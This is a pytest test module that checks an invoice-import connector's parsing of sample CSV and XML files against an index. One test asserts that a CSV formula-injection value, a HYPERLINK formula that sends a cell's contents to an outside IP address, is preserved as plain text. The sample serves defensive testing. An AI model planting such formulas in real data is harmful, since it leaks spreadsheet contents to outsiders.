"""Every sample file against all that its index says and that can be known without a ledger."""

import pytest
from _pytest.mark import ParameterSet

from connectors.base import Choice, Json
from connectors.files import FileRejected
from connectors.names import fold
from connectors.stampli.files.matching import Offered
from tests.stampli.samples import HERE, INDEX, STATE, Read, read

# Outcomes that the books or our own records decide; here such rows are part of a document, or matched below.
ELSEWHERE = {"posted", "duplicate", "held:changed", "over_payment", "held:bill_not_found", "held:reference_reused"}
MATCHED = {"vendor_not_found", "vendor_inactive", "vendor_ambiguous", "gl_not_found", "gl_inactive"}
VENDORS = Offered(Choice(one["id"], one["name"], one["status"] == "active") for one in STATE["vendors"])
ACCOUNTS = Offered(Choice(one["no"], one["no"], one["status"] == "active") for one in STATE["gl_accounts"])


def of(entry: Json) -> Read:
    path = HERE / entry["file"]
    with path.open("rb") as stream:
        return read(stream, name=path.name)


def entries(outcome: str) -> list[ParameterSet]:
    return [pytest.param(one, id=one["file"]) for one in INDEX if one["outcome"] == outcome]


def matched(payload: Json) -> str:
    """The code of vendor or account where the books do not have it; empty where they do."""
    if code := VENDORS.vendor(payload["vendor"]).code:
        return f"vendor_{code}"
    codes = [ACCOUNTS.value(line["gl_account"]).code for line in payload["lines"] if "gl_account" in line]
    return next((f"gl_{code}" for code in codes if code), "")


def test_all_samples_are_here() -> None:
    there = {str(path.relative_to(HERE)) for path in HERE.rglob("*.*") if path.suffix in (".csv", ".xml")}
    assert {entry["file"] for entry in INDEX} == there


@pytest.mark.parametrize("entry", entries("processed"))
def test_every_row_comes_to_what_the_index_says(entry: Json) -> None:
    result = of(entry)
    carried = {row: payload for payload in result.payloads for row in payload["rows"]}
    assert {row.number for row in result.rows} == {int(number) for number in entry["rows"]}
    for number, outcome in ((int(row), outcome) for row, outcome in entry["rows"].items()):
        codes = result.codes.get(number, [])
        if outcome in ELSEWHERE:
            assert codes == []
            assert matched(carried[number]) == ""
        elif outcome in MATCHED:
            assert matched(carried[number]) == outcome
        elif outcome == "held:void_requested":
            assert carried[number]["class"] == "void"
        else:
            assert outcome in codes


@pytest.mark.parametrize("entry", entries("processed"))
def test_every_document_is_as_the_index_says(entry: Json) -> None:
    made = of(entry).payloads
    for wanted in entry["documents"]:
        named = wanted.get("number") or wanted["payment_id"]
        fits = [one for one in made if named in (one.get("number"), one.get("payment_id"))]
        one = next(one for one in fits if VENDORS.vendor(one["vendor"]).value == wanted["vendor"])
        assert (one["total"], one["currency"]) == (wanted["total"], wanted["currency"])
        assert len(one["lines"]) == wanted.get("lines", wanted.get("applied_rows"))
        if "date" in wanted:
            assert one["invoice_date"] == wanted["date"]
            assert one["class"] == {"adjustment": "credit"}.get(wanted["type"], wanted["type"])


@pytest.mark.parametrize("entry", entries("processed"))
def test_no_document_comes_from_a_row_that_is_not_posted_or_decided_elsewhere(entry: Json) -> None:
    may = ELSEWHERE | MATCHED | {"held:void_requested", "duplicate_row"}
    for payload in of(entry).payloads:
        assert {entry["rows"][str(row)] for row in payload["rows"]} <= may


@pytest.mark.parametrize("entry", entries("processed"))
def test_a_file_warns_of_what_the_index_says_and_of_nothing_else(entry: Json) -> None:
    assert [one.code for one in of(entry).survey.notes] == entry.get("warnings", [])


@pytest.mark.parametrize("entry", entries("file_rejected"))
def test_a_rejected_file_says_why_and_what_to_do(entry: Json) -> None:
    with pytest.raises(FileRejected) as caught:
        of(entry)
    reason = entry["reason"]
    assert caught.value.code == reason or caught.value.code.startswith(f"{reason}:")
    assert caught.value.said and caught.value.cure


@pytest.mark.parametrize("entry", entries("no_rows"))
def test_a_file_without_rows_is_no_error(entry: Json) -> None:
    result = of(entry)
    assert (result.survey.rows, result.rows) == (0, [])


def test_texts_are_kept_as_they_are() -> None:
    breaks = of({"file": "03_good_embedded_newlines.csv"}).payloads[0]
    assert breaks["lines"][0]["description"] == 'First line\nsecond line, with comma\n\nfourth "quoted" line'
    assert breaks["lines"][1]["description"] == "tail\r\nCRLF inside"
    formula = of({"file": "29_formula_cells.csv"}).payloads
    assert formula[0]["lines"][0]["description"] == '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
    assert formula[1]["number"] == "+INV-7002"
    old = of({"file": "27_good_windows1252.csv"}).payloads[0]
    assert old["lines"][0]["description"] == "Instalación – fase 1 “norte” 5 €"


def test_leading_zeros_and_unknown_columns_are_kept() -> None:
    zeros = of({"file": "02_good_excel_bom_crlf.csv"}).payloads[1]
    assert (zeros["vendor"]["id"], zeros["number"], zeros["lines"][0]["gl_account"]) == ("V-0012", "00123", "0600")
    more = of({"file": "04_good_aliases_reordered_extra.csv"}).rows[0].body["extra"]
    assert more == {"Approved By": "jane@example.com", "Cost Allocation Note": "n/a"}


def test_the_xml_says_the_same_as_its_twin() -> None:
    def without_rows(payload: Json) -> Json:
        lines = [{**line, "rows": []} for line in payload["lines"]]
        return {**payload, "rows": [], "lines": lines}

    plain = [without_rows(one) for one in of({"file": "01_good_basic.csv"}).payloads]
    marked = [without_rows(one) for one in of({"file": "10_good_invoices.xml"}).payloads]
    assert marked == plain


def test_a_repeated_row_belongs_to_the_line_that_it_repeats() -> None:
    one = next(p for p in of({"file": "19_duplicates_in_file_and_ledger.csv"}).payloads if p["number"] == "OB-601")
    assert one["lines"][0]["rows"] == [4, 5]
    assert one["total"] == "30.00"


def test_known_documents_are_known_again_by_key_and_signature() -> None:
    before = {one["key"]: one for one in of({"file": "01_good_basic.csv"}).payloads}
    after = {one["key"]: one for one in of({"file": "20_same_rows_new_file.csv"}).payloads}
    both = before.keys() & after.keys()
    assert len(both) == 2
    assert all(before[key]["signature"] == after[key]["signature"] for key in both)
    first = of({"file": "13_bad_rows_mixed.csv"}).payloads
    again = of({"file": "redrop/13_bad_rows_mixed.csv"}).payloads
    old, new = (next(one for one in made if one["number"] == "OB-300") for made in (first, again))
    assert old["key"] == new["key"]
    assert old["signature"] != new["signature"]
    assert fold(old["key"]) == "bill/v-1003/ob-300"
